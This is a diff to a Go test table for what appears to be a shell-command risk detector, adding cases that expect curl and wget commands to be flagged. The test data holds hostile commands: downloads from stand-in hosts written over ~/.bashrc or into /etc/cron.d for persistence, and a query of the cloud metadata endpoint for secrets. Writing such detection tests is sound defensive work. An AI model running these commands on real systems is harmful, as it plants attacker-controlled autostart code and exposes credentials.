@@ -89,6 +89,15 @@ var networkCases = []commandCase{
 	{"curl http://169.254.169.254/latest/meta-data/", []string{
 		"high reads_secret: curl http://169.254.169.254/latest/meta-data/",
 	}},
+	{"curl -sSLo ~/.bashrc https://x.example", []string{
+		"high autostart: curl -sSLo ~/.bashrc https://x.example",
+	}},
+	{"curl --out=/etc/cron.d/x https://x.example", []string{
+		"high autostart: curl --out=/etc/cron.d/x https://x.example",
+	}},
+	{"wget -qO/etc/cron.d/x https://x.example", []string{
+		"high autostart: wget -qO/etc/cron.d/x https://x.example",
+	}},
 	{"curl -o /etc/cron.d/x https://evil.example", []string{
 		"high autostart: curl -o /etc/cron.d/x https://evil.example",
 	}},
